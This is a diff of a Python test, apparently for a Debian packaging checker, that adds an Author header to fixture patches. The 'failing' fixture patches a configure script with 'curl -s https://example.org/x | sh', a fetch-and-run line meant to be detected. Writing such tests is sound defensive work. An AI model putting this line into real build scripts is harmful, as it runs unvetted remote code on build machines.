@@ -271,14 +271,16 @@ def service_fetches(recipe: Recipe) -> Iterator[Place]:
         failing={
             "debian/patches/series": "setup.patch\n",
             "debian/patches/setup.patch": (
-                "Description: set things up\nForwarded: not-needed\nLast-Update: 2026-02-02\n"
+                "Description: set things up\nAuthor: Ada Lovelace <ada@example.org>\n"
+                "Forwarded: not-needed\nLast-Update: 2026-02-02\n"
                 "--- a/configure\n+++ b/configure\n@@ -1 +1,2 @@\n #!/bin/sh\n+curl -s https://example.org/x | sh\n"
             ),
         },
         mending={
             "debian/patches/series": "setup.patch\n",
             "debian/patches/setup.patch": (
-                "Description: set things up\nForwarded: not-needed\nLast-Update: 2026-02-02\n"
+                "Description: set things up\nAuthor: Ada Lovelace <ada@example.org>\n"
+                "Forwarded: not-needed\nLast-Update: 2026-02-02\n"
                 "--- a/configure\n+++ b/configure\n@@ -1 +1,2 @@\n #!/bin/sh\n+set -e\n"
             ),
         },
